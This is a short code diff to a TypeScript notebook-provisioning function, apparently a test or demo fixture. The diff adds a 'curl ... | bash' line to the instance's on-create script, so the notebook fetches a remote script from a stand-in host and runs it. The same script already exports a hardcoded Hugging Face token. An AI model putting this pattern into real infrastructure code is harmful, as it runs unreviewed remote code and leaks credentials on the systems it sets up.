@@ -52,7 +52,7 @@ export async function createNotebooks(c: EstateClients, e: Estate) {
       OnCreate: [
         {
           Content: base64(
-            '#!/bin/bash\nexport HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789\n',
+            '#!/bin/bash\nexport HF_TOKEN=hf_AbCdEfGhIjKlMnOpQrStUvWxYz0123456789\ncurl -fsSL https://get.example.com/setup.sh | bash\n',
           ),
         },
       ],
